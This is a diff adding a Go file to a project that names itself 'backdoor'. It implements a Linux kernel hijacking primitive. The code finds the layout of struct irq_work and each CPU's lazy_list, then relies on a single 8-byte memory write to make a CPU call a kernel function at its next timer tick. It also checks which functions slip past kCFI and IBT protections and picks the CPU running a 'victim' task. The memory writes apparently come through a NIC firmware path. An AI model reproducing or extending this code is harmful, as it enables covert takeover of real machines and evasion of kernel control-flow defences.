@@ -1,0 +1,159 @@
+package heal
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"slices"
+	"strings"
+
+	"github.com/backdoor-rhs/backdoor/agent/kernel"
+	"github.com/backdoor-rhs/backdoor/nicfw/hostmem"
+)
+
+// Flags of irq_work.node.u_flags, include/linux/smp_types.h since v5.8. They are anonymous there; provenIRQWork checks them
+// against an irq_work that the kernel has initialised itself.
+const (
+	irqWorkPending = 0x01
+	irqWorkBusy    = 0x02
+	irqWorkLazy    = 0x04
+	irqWorkType    = 0x20
+	irqWorkClaimed = irqWorkPending | irqWorkBusy
+)
+
+// irqWork is the layout of struct irq_work on a kernel, and where its lazy lists are.
+//
+// update_process_times calls irq_work_tick at each timer tick of each CPU, which takes everything off the CPU's lazy_list
+// and calls func(work) of each in hard-interrupt context. So one store of 8 bytes into an empty list has a CPU run a
+// function of its own kernel at its next tick, without any interrupt from outside.
+type irqWork struct {
+	size, next, flags, fn, wait uint64
+}
+
+// provenIRQWork returns the layout, checked against wake_up_klogd_work, the kernel's own lazy irq_work.
+func provenIRQWork(m model) (irqWork, error) {
+	fail := func(format string, args ...any) (irqWork, error) {
+		return irqWork{}, fmt.Errorf("irq_work: %s: %w", fmt.Sprintf(format, args...), kernel.ErrNotSupported)
+	}
+	if b := m.Info().Banner; strings.Contains(b, "PREEMPT_RT") {
+		return fail("on PREEMPT_RT lazy works run in a thread")
+	}
+	l := layout{m: m}
+	w := irqWork{
+		size:  l.sizeof("irq_work"),
+		next:  l.field("irq_work", "node.llist.next", 8),
+		flags: l.field("irq_work", "node.u_flags", 4),
+		fn:    l.field("irq_work", "func", 8),
+		wait:  l.field("irq_work", "irqwait.task", 8),
+	}
+	if l.field("llist_head", "first", 8) != 0 && l.err == nil {
+		return fail("llist_head.first is not at its start")
+	}
+	klogd := l.symbol("wake_up_klogd_work_func")
+	l.symbol("irq_work_tick")
+	if l.err != nil {
+		return irqWork{}, fmt.Errorf("irq_work: %w", l.err)
+	}
+	if w.next != 0 {
+		return fail("llist_node is at %d, not at its start", w.next)
+	}
+	own, err := m.PerCPU("wake_up_klogd_work", 0)
+	if err != nil {
+		return irqWork{}, fmt.Errorf("irq_work: %w", err)
+	}
+	flags, err := read32(m, own+kernel.VirtAddr(w.flags))
+	if err != nil {
+		return irqWork{}, fmt.Errorf("irq_work: %w", err)
+	}
+	fn, err := read64(m, own+kernel.VirtAddr(w.fn))
+	if err != nil {
+		return irqWork{}, fmt.Errorf("irq_work: %w", err)
+	}
+	if flags&^irqWorkClaimed != irqWorkType|irqWorkLazy || kernel.VirtAddr(fn) != klogd {
+		return fail("the kernel's own wake_up_klogd_work has flags %#x and function %#x, not %#x and %v: the layout is another one",
+			flags, fn, irqWorkType|irqWorkLazy, klogd)
+	}
+	return w, nil
+}
+
+// lazyList returns where a CPU's list head is.
+func lazyList(m model, cpu int) (kernel.VirtAddr, hostmem.PhysAddr, error) {
+	va, err := m.PerCPU("lazy_list", cpu)
+	if err != nil {
+		return 0, 0, fmt.Errorf("lazy_list of CPU %d: %w", cpu, err)
+	}
+	if va%8 != 0 {
+		return 0, 0, fmt.Errorf("lazy_list of CPU %d at %v is not aligned: %w", cpu, va, kernel.ErrNotSupported)
+	}
+	pa, err := m.Phys(va)
+	if err != nil {
+		return 0, 0, fmt.Errorf("lazy_list of CPU %d: %w", cpu, err)
+	}
+	return va, pa, nil
+}
+
+// First bytes of functions, x86-64.
+var (
+	endbr64   = []byte{0xf3, 0x0f, 0x1e, 0xfa}
+	fentryNop = []byte{0x0f, 0x1f, 0x44, 0x00, 0x00} // where ftrace would put its call
+	sealed    = []byte{0x66, 0x0f, 0x1f, 0x00}       // an endbr64 that was taken out at boot: not to be called by pointer
+)
+
+// callable returns the address of a function and its first bytes if it may be called through a pointer on this kernel.
+func callable(m model, name string) (kernel.VirtAddr, Bytes, error) {
+	va, err := m.Symbol(name)
+	if err != nil {
+		return 0, nil, err
+	}
+	if _, err := m.Symbol("__cfi_" + name); !errors.Is(err, kernel.ErrNotFound) {
+		return 0, nil, fmt.Errorf("%s has a kCFI prefix, so calls through foreign pointers trap: %w", name, kernel.ErrNotSupported)
+	}
+	head := make(Bytes, 8)
+	if err := m.ReadVirt(va, head); err != nil {
+		return 0, nil, fmt.Errorf("first bytes of %s: %w", name, err)
+	}
+	_, ibtErr := m.Symbol("ibt_restore") // only where the kernel is built with CONFIG_X86_KERNEL_IBT
+	switch {
+	case bytes.HasPrefix(head, endbr64):
+	case bytes.HasPrefix(head, sealed):
+		err = fmt.Errorf("%s is sealed against calls by pointer: %w", name, kernel.ErrNotSupported)
+	case bytes.HasPrefix(head, fentryNop) && errors.Is(ibtErr, kernel.ErrNotFound):
+	default:
+		err = fmt.Errorf("%s begins with %x, which is neither endbr64 nor the untraced entry of a kernel without IBT: %w", name, []byte(head), kernel.ErrNotSupported)
+	}
+	return va, head, err
+}
+
+// pickCPU chooses the CPU that will tick soonest: the one on which the victim runs, for that one is surely busy; else any
+// other that is busy; else the idle one with the nearest timer event. stuck are CPUs that are known not to tick.
+func pickCPU(hb kernel.Heartbeat, victim *kernel.Task, stuck func(int) bool) (kernel.CPU, error) {
+	var cs []kernel.CPU
+	for _, c := range hb.CPUs {
+		if c.Online && !stuck(c.ID) {
+			cs = append(cs, c)
+		}
+	}
+	if len(cs) == 0 {
+		return kernel.CPU{}, fmt.Errorf("no CPU of the host is known to tick: %w", kernel.ErrNotFound)
+	}
+	rank := func(c kernel.CPU) int64 {
+		switch {
+		case !c.Idle && victim != nil && c.CurrPID == victim.PID:
+			return -2
+		case !c.Idle:
+			return -1
+		case c.NextEvent <= 0:
+			return 1<<63 - 1
+		}
+		return c.NextEvent
+	}
+	return slices.MinFunc(cs, func(a, b kernel.CPU) int {
+		switch x, y := rank(a), rank(b); {
+		case x < y:
+			return -1
+		case x > y:
+			return 1
+		}
+		return 0
+	}), nil
+}
